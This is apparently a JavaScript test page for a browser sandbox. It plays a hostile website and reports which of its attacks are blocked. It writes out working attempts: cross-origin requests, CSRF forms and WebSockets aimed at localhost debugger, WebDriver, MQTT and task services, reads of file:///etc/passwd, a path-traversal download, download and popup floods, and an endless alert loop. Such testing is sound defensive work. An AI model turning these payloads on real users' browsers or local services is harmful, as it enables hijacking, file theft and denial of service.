// What a hostile page tries. KEY names the session; the server tells the ports once the row lets it begin.
const late = (ms, text) => new Promise(done => setTimeout(() => done(text), ms));
const told = (name, text) =>
  fetch('/told/' + KEY, {method: 'POST', body: JSON.stringify([name, String(text).slice(0, 300)])});
const on = (thing, good, bad) => new Promise(done => {
  thing['on' + good] = () => done('read: ' + good);
  thing['on' + bad] = () => done('blocked: ' + bad);
});
const seen = async answer =>
  answer.type === 'opaque' ? 'blocked: opaque' : answer.status >= 400 ? 'blocked: ' + answer.status
    : 'read: ' + answer.status + ' ' + await answer.text();
const put = (name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields));
const inside = frame => new Promise(done => {
  setTimeout(() => done('blocked: empty'), 1500);
  frame.onload = () => {
    let page = null;
    try { page = frame.contentDocument; } catch (error) { }
    done(page && page.URL !== 'about:blank' ? 'read: ' + page.body.innerText : 'blocked: frame');
  };
});
const json = {'content-type': 'application/json'};

function requests(given) {
  const bearer = {authorization: 'Bearer ' + given.token};
  const order = JSON.stringify({instance_id: KEY});
  const found = {};
  const asked = {
    tokd: ['/livez', '/api/v1/tasks', order],
    debugger: ['/json/version', '/json/new?about:blank', ''],
    driver: ['/status', '/session', JSON.stringify({capabilities: {}})],
    broker: ['/', '/mqtt', '\x10\x0c\x00\x04MQTT'],
    control: ['/door', '/door', 'x'],
  };
  for (const [what, [path, door, body]] of Object.entries(asked)) {
    if (!given.ports[what]) continue;
    for (const host of ['127.0.0.1', 'localhost', location.hostname]) {
      const base = 'http://' + host + ':' + given.ports[what], at = ' of ' + what + ' at ' + host;
      found['a question' + at] = async () => seen(await fetch(base + path, {headers: bearer}));
      found['an order in JSON' + at] = async () =>
        seen(await fetch(base + door, {method: 'POST', body, headers: {...bearer, ...json}}));
      found['an order in plain text' + at] = async () =>
        seen(await fetch(base + door, {method: 'POST', body, mode: 'no-cors', credentials: 'include'}));
      found['a frame' + at] = async () => inside(put('iframe', {src: base + path}));
      found['a form' + at] = async () => {
        const frame = put('iframe', {name: 'form' + at});
        const form = put('form', {action: base + door, method: 'POST', enctype: 'text/plain', target: 'form' + at});
        form.innerHTML = '<input name=\'{"instance_id":"i","description":"\' value=\'"}\'>';
        const end = inside(frame);
        form.submit();
        return end;
      };
      found['a socket' + at] = async () =>
        on(new WebSocket(base.replace('http', 'ws') + (what === 'debugger' ? '/devtools/browser' : door)), 'open', 'error');
    }
    const own = '/rebound/' + what;
    found['a question to ' + what + ' whose name was moved'] = async () =>
      seen(await fetch(own + path, {headers: bearer}));
    found['an order to ' + what + ' whose name was moved'] = async () => {
      const method = what === 'debugger' ? 'PUT' : 'POST';
      return seen(await fetch(own + door, {method, body: body || undefined, headers: {...bearer, ...json}}));
    };
  }
  return found;
}

const files = {
  'a file in a frame': async () => inside(put('iframe', {src: 'file:///etc/passwd'})),
  'a file fetched': async () => seen(await fetch('file:///etc/passwd')),
  'a file in a window': async () => {
    const opened = open('file:///etc/passwd');
    await late(300);
    try { return 'read: ' + opened.document.body.innerText.slice(0, 20) + (opened.length + ''); }
    catch (error) { return 'blocked: ' + error.name; }
  },
  'a file in this window': async () => { location.href = 'file:///etc/passwd'; await late(300); return 'blocked'; },
  'a file behind view-source': async () => { put('a', {href: 'view-source:file:///etc/passwd'}).click(); return 'blocked'; },
};

const downloads = {
  'a download by its header': async () => { put('iframe', {src: '/file/' + MARK + '-1.bin'}); await late(300); return 'blocked'; },
  'a download by a link': async () => {
    put('a', {href: '/file/' + MARK + '-2.bin', download: MARK + '-2.bin'}).click(); await late(300); return 'blocked';
  },
  'a download of a blob': async () => {
    const url = URL.createObjectURL(new Blob([MARK]));
    put('a', {href: url, download: MARK + '-3.html'}).click(); await late(300); return 'blocked';
  },
  'a download with a path': async () => {
    put('a', {href: 'data:text/plain,' + MARK, download: '../../../../' + MARK + '-4.desktop'}).click();
    await late(300); return 'blocked';
  },
  'twenty downloads': async () => {
    for (let n = 0; n < 20; n++) put('iframe', {src: '/file/' + MARK + '-many' + n + '.bin'});
    await late(500); return 'blocked';
  },
  'a download in this window': async () => { location.href = '/file/' + MARK + '-5.bin'; await late(500); return 'blocked'; },
  'a file chosen to be written': async () => {
    const handle = await showSaveFilePicker({suggestedName: MARK + '-6.txt'});
    return 'read: ' + handle.name;
  },
};

const nuisances = {
  'a hundred windows': async () => { for (let n = 0; n < 100; n++) open('/popup/' + n); return 'blocked'; },
  'a long history': async () => { for (let n = 0; n < 20000; n++) history.pushState(n, '', '#' + n); return 'blocked'; },
  'a question before it unloads': async () => {
    addEventListener('beforeunload', event => { event.preventDefault(); event.returnValue = 'x'; return 'x'; });
    return 'blocked';
  },
  'a print': async () => { setTimeout(print, 0); return 'blocked'; },
  'a notification': async () => 'blocked: ' + await Promise.race([Notification.requestPermission(), late(300, 'asked')]),
  'a huge title': async () => { document.title = 'x'.repeat(1e6); return 'blocked'; },
};

async function main() {
  const given = await (await fetch('/begin/' + KEY)).json();
  const tries = {...requests(given), ...files, ...downloads, ...nuisances};
  const waiting = [];
  for (const [name, attempt] of Object.entries(tries)) {
    const end = Promise.race([attempt().catch(error => 'blocked: ' + error.name), late(2500, 'blocked: nothing came')]);
    waiting.push(end.then(text => told(name, text)));
    await late(5);
  }
  await Promise.all(waiting);
  await told('the end', 'blocked');
  setTimeout(() => parent === window ? (() => { for (;;) alert('x'.repeat(100000)); })() : parent.postMessage('end', '*'), 0);
}
main();
